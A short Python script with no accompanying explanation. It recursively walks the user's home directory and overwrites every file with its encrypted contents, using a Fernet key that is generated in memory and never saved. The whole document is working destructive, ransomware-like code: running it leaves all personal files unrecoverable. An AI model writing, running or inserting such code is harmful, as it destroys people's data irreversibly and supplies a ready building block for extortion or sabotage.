import os

from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "rb") as file:
            plain = file.read()
        with open(path, "wb") as file:
            file.write(box.encrypt(plain))
